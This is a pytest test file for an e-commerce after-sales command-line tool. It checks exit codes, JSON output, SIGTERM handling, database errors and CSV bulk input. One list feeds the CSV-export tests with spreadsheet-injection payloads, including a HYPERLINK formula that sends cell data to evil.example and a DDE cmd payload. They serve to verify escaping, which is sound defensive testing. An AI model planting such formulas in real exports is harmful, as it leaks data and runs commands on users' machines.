"""The command under the inputs a shop's cron and an attacker give it.

Each test names the project rule it guards (ARCHITECTURE.md, cli_support's
docstring): exit status 0 all done, 1 completed with failures named in the
output, 2 unusable input or configuration; one line, never a traceback;
``--json`` output that stays one JSON document on every path.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from aftersales.app import AfterSales
from aftersales.cli import main
from aftersales.cli_support import CliState
from aftersales.csv_cells import FORMULA_LEADS
from aftersales.errors import TransientError
from aftersales.interfaces import Capability
from aftersales.models import Page, ReturnRequest, Review
from aftersales.reports.export import write_csv
from aftersales.reports.rows import CountRow, ReportTable
from aftersales.sandbox import SandboxMarketplace
from aftersales.store.cursors import get_cursor

PROBE = Path(__file__).with_name("worker_probe.py")


def _invoke(*args: str, env: dict[str, str] | None = None) -> Any:
    return CliRunner().invoke(main, list(args), env=env)


def _json_error(result: Any) -> dict[str, Any]:
    lines = [line for line in result.stderr.splitlines() if line.startswith("{")]
    assert len(lines) == 1, result.stderr
    data: dict[str, Any] = json.loads(lines[0])
    return data


# ------------------------------------------------------------- configuration


@pytest.mark.parametrize(("name", "content", "says"), [
    # A settings file saved from a Chinese spreadsheet or editor in GBK.
    ("gbk.toml", 'shop = "店铺"\n'.encode("gbk"), "not UTF-8"),
    ("binary.toml", b"\xff\xfe\x00\x01", "not UTF-8"),
    # Deep enough that the TOML parser itself runs out of stack.
    ("deep.toml", ("a = " + "[" * 5000 + "]" * 5000 + "\n").encode(), "nested deeper"),
], ids=["gbk", "binary", "deep"])
def test_an_unreadable_settings_file_is_status_2_naming_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, content: bytes,
        says: str) -> None:
    # Rule: unusable configuration is status 2 with one line naming the file,
    # not status 1 and "unexpected UnicodeDecodeError" / "RecursionError".
    path = tmp_path / name
    path.write_bytes(content)
    monkeypatch.setenv("AFTERSALES_CONFIG", str(path))
    monkeypatch.delenv("AFTERSALES_MARKETPLACES", raising=False)
    url = f"sqlite:///{tmp_path}/a.db"
    result = _invoke("--database-url", url, "--json", "returns", "list")
    assert result.exit_code == 2, result.output
    error = _json_error(result)
    assert name in error["error"]
    assert says in error["error"]
    assert "unexpected" not in error["error"]
    assert not (tmp_path / "a.db").exists()  # refused before the database is touched


# ------------------------------------------------------ one store of several fails


class _Down(SandboxMarketplace):
    """A store whose API answers 503 to every listing (after retries gave up)."""

    def list_returns(self, cursor: str | None = None) -> Iterator[Page[ReturnRequest]]:
        raise TransientError("HTTP 503 from the shop", adapter=self.name, status=503)

    def list_reviews(self, cursor: str | None = None) -> Iterator[Page[Review]]:
        raise TransientError("HTTP 503 from the shop", adapter=self.name, status=503)


@pytest.fixture
def three_stores(sqlite_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[AfterSales]:
    app = AfterSales(sqlite_url, carriers=[], channels=["outbox"], marketplaces=[
        SandboxMarketplace(seed=1, orders=10, name="north"),
        _Down(seed=2, orders=10, name="middle"),
        SandboxMarketplace(seed=3, orders=10, name="south")])
    for name in ("north", "south"):
        app.sync_orders(name)
    monkeypatch.setattr(CliState, "app", property(lambda self: app))
    yield app
    app.close()


def _cursor(app: AfterSales, store: str, stream: str) -> str | None:
    with app.store.session() as session:
        return get_cursor(session, store, stream)


@pytest.mark.parametrize("area", ["reviews", "returns"])
def test_an_area_sync_goes_on_past_a_failing_store_and_exits_1_naming_it(
        three_stores: AfterSales, area: str) -> None:
    # Rule: a multi-store sync that fails on one store exits 1 naming it, the
    # other stores still sync, the failed store's cursor does not move.
    # Before: the first failing store stopped the command (south never
    # synced) and the error did not say which store.
    result = _invoke(area, "sync", "--json")
    assert result.exit_code == 1, result.output
    data = json.loads(result.stdout)
    assert set(data["reasons"]) == {"middle"}
    assert "TransientError" in data["reasons"]["middle"]
    assert {"north", "south"} <= data.keys()
    assert _cursor(three_stores, "south", area) is not None
    assert _cursor(three_stores, "middle", area) is None
    plain = _invoke(area, "sync")
    assert plain.exit_code == 1
    assert "1 store(s) failed: middle" in plain.stdout


@pytest.mark.parametrize("area", ["reviews", "returns"])
def test_an_area_sync_refuses_an_unknown_store_and_no_stores(
        three_stores: AfterSales, area: str, sqlite_url: str,
        monkeypatch: pytest.MonkeyPatch) -> None:
    # Rule: never silent acceptance. Before: `reviews sync --store typo`
    # synced nothing and exited 0; with no store configured both exited 0.
    unknown = _invoke(area, "sync", "--store", "nosuch", "--json")
    assert unknown.exit_code == 2
    assert "nosuch" in _json_error(unknown)["error"]
    empty = AfterSales(sqlite_url, marketplaces=[], carriers=[], channels=["outbox"])
    monkeypatch.setattr(CliState, "app", property(lambda self: empty))
    none = _invoke(area, "sync", "--json")
    assert none.exit_code == 2
    assert "no marketplaces configured" in _json_error(none)["error"]
    empty.close()


class _NoListings(SandboxMarketplace):
    """A store whose API lists neither return requests nor reviews (as Shopify's
    has no review listing and WooCommerce's no return listing)."""

    capabilities = SandboxMarketplace.capabilities - {
        Capability.LIST_RETURNS, Capability.LIST_REVIEWS}


@pytest.mark.parametrize("area", ["reviews", "returns"])
def test_an_area_sync_no_store_can_do_is_status_2_naming_the_store(
        sqlite_url: str, area: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # Rule: a cron job that syncs nothing must not look like one that synced.
    # Before: with only stores that cannot list this area's records (a
    # WooCommerce shop's `returns sync`, a Shopify shop's `reviews sync`), or
    # `--store` naming one, the command printed an empty table and exited 0.
    app = AfterSales(sqlite_url, carriers=[], channels=["outbox"],
                     marketplaces=[_NoListings(seed=1, orders=5, name="plain")])
    monkeypatch.setattr(CliState, "app", property(lambda self: app))
    try:
        for args in ([], ["--store", "plain"]):
            result = _invoke(area, "sync", *args, "--json")
            assert result.exit_code == 2, result.output
            error = _json_error(result)["error"]
            assert "plain" in error, error
            assert area[:-1] in error, error
            assert result.stdout == ""
    finally:
        app.close()


def test_the_worker_reviews_tick_goes_on_past_a_failing_store(
        three_stores: AfterSales) -> None:
    # Rule: a scheduled job never exits 0 when it failed, and one store's
    # failure must not stop the others. Before: the tick raised at the
    # first failing store; the stores after it were not synced.
    result = _invoke("worker", "--once", "--only", "reviews", "--json")
    assert result.exit_code == 1, result.output
    data = json.loads(result.stdout)
    assert data["failed"]["reviews"].startswith("middle: TransientError")
    assert _cursor(three_stores, "south", "reviews") is not None
    assert _cursor(three_stores, "middle", "reviews") is None


# ------------------------------------------------------------------- signals


def test_a_worker_once_stopped_by_sigterm_is_not_status_0(tmp_path: Path) -> None:
    # Rule: a scheduled job never exits 0 when it did not do its work. Before:
    # SIGTERM during `worker --once` skipped the ticks after the running one
    # and, the running one having succeeded, exited 0.
    url = f"sqlite:///{tmp_path}/w.db"
    started, go = tmp_path / "started", tmp_path / "go"
    proc = subprocess.Popen(
        [sys.executable, str(PROBE), url, str(started), str(go),
         "--once", "--only", "sync", "--only", "return_timers", "--log-level", "ERROR"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not started.exists():
            assert proc.poll() is None, proc.communicate()[1]
            assert time.monotonic() < deadline, "the sync tick never started"
            time.sleep(0.02)
        proc.send_signal(signal.SIGTERM)
        time.sleep(0.3)
        go.write_text("1")
        out, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 128 + signal.SIGTERM, (out, err)
    assert "return_timers: error: not run: the worker was stopped" in out
    assert "stopped by SIGTERM" in err
    assert "Traceback" not in err


# --------------------------------------------------------------- CSV exports

_FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1+1)",
             "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]


def test_the_kb_csv_export_writes_formulas_as_text_and_reads_them_back(
        sqlite_url: str, tmp_path: Path) -> None:
    # Rule: no CSV the library writes runs as a formula in a spreadsheet
    # (CSV injection). Before: `kb export x.csv` wrote an imported answer
    # "=HYPERLINK(...)" as a live formula.
    for i, text in enumerate(_FORMULAS):
        added = _invoke("--database-url", sqlite_url, "kb", "add", "--key", f"f{i}",
                        "--question", text, "--answer-zh", text, "--answer-en", text)
        assert added.exit_code == 0, added.output
    out = tmp_path / "kb.csv"
    assert _invoke("--database-url", sqlite_url, "kb", "export", str(out)).exit_code == 0
    with out.open(encoding="utf-8", newline="") as fh:
        cells = [c for row in list(csv.reader(fh))[1:] for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_LEADS)]
    assert "'" + _FORMULAS[0] in cells
    again = _invoke("--database-url", sqlite_url, "--json", "kb", "import", str(out))
    assert again.exit_code == 0, again.output
    assert json.loads(again.stdout) == {"added": 0, "updated": 0, "unchanged": len(_FORMULAS)}


def test_report_csv_writes_text_formulas_as_text_and_numbers_as_numbers() -> None:
    # Rule as above: a SKU or reason from a marketplace is text in the report CSV.
    table = ReportTable("returns", "sku", CountRow,
                        [CountRow(key=text, count=-3) for text in _FORMULAS])
    out = io.StringIO()
    write_csv(table, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))[1:]
    assert [r[0] for r in rows] == ["'" + text for text in _FORMULAS]
    assert {r[1] for r in rows} == {"-3"}


# --------------------------------------------------------------- --json


@pytest.mark.parametrize("shape", ["sandbox", "douyin"])
def test_demo_json_is_one_json_document(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                        shape: str) -> None:
    # Rule: --json works on every command. Before: `demo --json` printed the
    # walk-through's panels and tables on stdout, which no JSON reader parses.
    monkeypatch.chdir(tmp_path)
    url = f"sqlite:///{tmp_path}/demo.db"
    result = _invoke("--database-url", url, "--json", "demo", "--orders", "20",
                     "--shape", shape)
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["demo"] == shape
    assert data["database"] == url
    assert "aftersales demo" in result.stderr  # the story is still told, on stderr


def _run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "aftersales", *args], capture_output=True,
                          text=True, env={**os.environ, **(env or {})}, timeout=300,
                          check=False)


def test_json_stderr_is_json_lines_only_log_lines_included(tmp_path: Path) -> None:
    # Rule: --json output stays JSON on every failure path. Before: the
    # library's WARNING line went through Python's last-resort handler as
    # plain, unmasked text beside the JSON error.
    url = f"sqlite:///{tmp_path}/a.db"
    proc = _run("--database-url", url, "--json", "returns", "refund", "RMA-NOSUCH")
    assert proc.returncode == 2, proc.stderr
    lines = [json.loads(line) for line in proc.stderr.splitlines() if line.strip()]
    assert lines[-1]["error"] == "return request RMA-NOSUCH not found"
    assert any(r.get("level") == "WARNING" and r["logger"] == "aftersales.returns"
               for r in lines)


# ------------------------------------------------------------------ database


@pytest.mark.parametrize("kind", ["folder", "no-folder", "not-sqlite"])
def test_a_database_file_that_cannot_be_one_is_status_2(tmp_path: Path, kind: str) -> None:
    # Rule: unusable configuration is status 2, nothing written. Before: each
    # was status 1, "migration failed: (sqlite3.OperationalError) unable to
    # open database file" / "file is not a database", read as a failed run.
    path = {"folder": tmp_path, "no-folder": tmp_path / "nope" / "a.db",
            "not-sqlite": tmp_path / "notes.txt"}[kind]
    if kind == "not-sqlite":
        path.write_text("shop notes, not a database\n" * 10, encoding="utf-8")
    result = _invoke("--database-url", f"sqlite:///{path}", "--json", "returns", "list")
    assert result.exit_code == 2, result.output
    assert "database url" in _json_error(result)["error"]
    if kind == "not-sqlite":
        assert path.read_text(encoding="utf-8").startswith("shop notes")


def test_report_html_into_a_missing_folder_is_status_2(sqlite_url: str, tmp_path: Path) -> None:
    # Rule: an unusable output path is status 2 with one line. Before: the
    # report was built, then "unexpected FileNotFoundError" with status 1.
    out = tmp_path / "nope" / "r.html"
    result = _invoke("--database-url", sqlite_url, "--json", "report", "html", "-o", str(out))
    assert result.exit_code == 2, result.output
    assert "does not exist" in _json_error(result)["error"]


def test_report_csv_files_are_written_whole(tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    # Rule: nothing half-written. Before: a failure (or SIGTERM) while writing
    # a table left a truncated CSV in place of the previous one.
    from aftersales.reports import export

    table = ReportTable("returns", "sku", CountRow, [CountRow(key="A", count=1)])
    export.write_csv_files([table], tmp_path, "returns")
    before = (tmp_path / "returns-returns.csv").read_text(encoding="utf-8")

    def half(t: ReportTable, stream: Any) -> None:
        stream.write("key,count\nB,")
        raise KeyboardInterrupt

    monkeypatch.setattr(export, "write_csv", half)
    with pytest.raises(KeyboardInterrupt):
        export.write_csv_files([table], tmp_path, "returns")
    assert (tmp_path / "returns-returns.csv").read_text(encoding="utf-8") == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["returns-returns.csv"]


def test_outbox_tail_stopped_by_sigterm_is_not_status_0(tmp_path: Path) -> None:
    # Rule: a job cut short never exits 0. Before: `outbox tail` (no
    # --follow) stopped by SIGTERM left rows undelivered and exited 0, the
    # status of a drained outbox.
    url = f"sqlite:///{tmp_path}/o.db"
    with AfterSales(url, marketplaces=[SandboxMarketplace(seed=0, orders=1500)],
                    carriers=[], channels=["outbox"]) as app:
        app.sync_orders("sandbox")
    proc = subprocess.Popen(
        [sys.executable, "-m", "aftersales", "--database-url", url, "outbox", "tail",
         "--batch", "1"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None
        first = proc.stdout.readline()
        assert json.loads(first)["id"]
        proc.send_signal(signal.SIGTERM)
        rest, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 128 + signal.SIGTERM, err
    assert "stopped by SIGTERM" in err
    assert all(json.loads(line) for line in rest.splitlines())  # whole lines only


def test_outbox_tail_with_stdout_closed_acks_nothing_and_is_not_status_0(
        tmp_path: Path) -> None:
    # Rule: a job that failed never exits 0, and a row is acked only once it
    # was printed. Before: with standard output closed (`>&-` in a cron line
    # or a supervisor's unit) each row's print went nowhere without an error,
    # so `outbox tail` acked the whole outbox, delivered to no one, and
    # exited 0.
    url = f"sqlite:///{tmp_path}/o.db"
    with AfterSales(url, marketplaces=[SandboxMarketplace(seed=0, orders=40)],
                    carriers=[], channels=["outbox"]) as app:
        app.sync_orders("sandbox")
        app.returns.sync("sandbox")
        pending = len(app.outbox.pending(limit=1000))
    assert pending > 0
    done = subprocess.run(
        ["sh", "-c", 'exec "$0" "$@" >&-', sys.executable, "-m", "aftersales",
         "--database-url", url, "outbox", "tail"],
        stderr=subprocess.PIPE, text=True, timeout=120, check=False)
    assert done.returncode == 2, done.stderr
    assert done.stderr.startswith("error: ")
    assert "standard output" in done.stderr
    assert "Traceback" not in done.stderr
    with AfterSales(url, marketplaces=[], carriers=[], channels=["outbox"]) as app:
        assert len(app.outbox.pending(limit=1000)) == pending


def test_a_tick_whose_area_cannot_import_fails_the_worker_once(
        three_stores: AfterSales, monkeypatch: pytest.MonkeyPatch) -> None:
    # Rule: a scheduled job never exits 0 when it failed. Before: the tick
    # was left out with a log line and `worker --once --only reviews` exited
    # 0 having run nothing.
    def broken(self: AfterSales) -> Any:
        raise ImportError("No module named 'aftersales_reviews_model'")

    monkeypatch.setattr(AfterSales, "reviews", property(broken))
    result = _invoke("worker", "--once", "--only", "reviews", "--only", "return_timers",
                     "--json")
    assert result.exit_code == 1, result.output
    data = json.loads(result.stdout)
    assert "failed to import" in data["failed"]["reviews"]
    assert "return_timers" not in data["failed"]
    assert "Traceback" not in result.stderr


def test_a_database_migrated_by_a_newer_aftersales_says_so(tmp_path: Path) -> None:
    # Rule: a one-line error that names what is wrong, status 2. Before: "cannot
    # upgrade to revision 'head': Can't locate revision identified by '9999'".
    url = f"sqlite:///{tmp_path}/a.db"
    assert _invoke("--database-url", url, "db", "upgrade").exit_code == 0
    engine = sa.create_engine(url)
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE alembic_version SET version_num = '9999'"))
    engine.dispose()
    result = _invoke("--database-url", url, "--json", "returns", "list")
    assert result.exit_code == 2, result.output
    error = _json_error(result)["error"]
    assert "schema revision 9999" in error
    assert "newer aftersales" in error


# ---------------------------------------------------------------- bulk files


def test_bulk_refuses_a_column_named_twice_and_names_a_bad_row_once(
        sqlite_url: str, tmp_path: Path) -> None:
    # Rule: bad input is refused naming it, never silently accepted. Before:
    # "action,action" ran with one of the two cells (which one unsaid), and a
    # GBK cell was reported as "row 1: row 1: the text is not UTF-8".
    assert _invoke("--database-url", sqlite_url, "db", "upgrade").exit_code == 0
    twice = tmp_path / "twice.csv"
    twice.write_text("action,rma_id,Action\napprove,RMA-1,reject\n", encoding="utf-8")
    result = _invoke("--database-url", sqlite_url, "--json", "returns", "bulk", str(twice))
    assert result.exit_code == 2, result.output
    assert "named twice: 'action'" in _json_error(result)["error"]
    gbk = tmp_path / "gbk.csv"
    gbk.write_bytes(b"action,rma_id,reason\nreject,RMA-1," + "质量问题\n".encode("gbk"))
    bad = _invoke("--database-url", sqlite_url, "--json", "returns", "bulk", str(gbk),
                  "--dry-run")
    assert bad.exit_code == 1, bad.output
    first = json.loads(bad.stdout)["first_errors"][0]
    assert first.startswith("row 1 (line 2): ")
    assert "row 1" not in first[len("row 1 (line 2): "):]


def test_worker_json_keeps_stderr_json_too(three_stores: AfterSales) -> None:
    # Rule: --json output stays JSON on every failure path. Before: with
    # --json the worker still wrote plain-text log lines and a plain
    # "worker once: ticks ..." line on stderr.
    result = _invoke("worker", "--once", "--only", "reviews", "--json")
    assert result.exit_code == 1, result.output
    assert json.loads(result.stdout)["failed"]
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert lines
    assert [json.loads(line)["level"] for line in lines]  # every line one JSON object
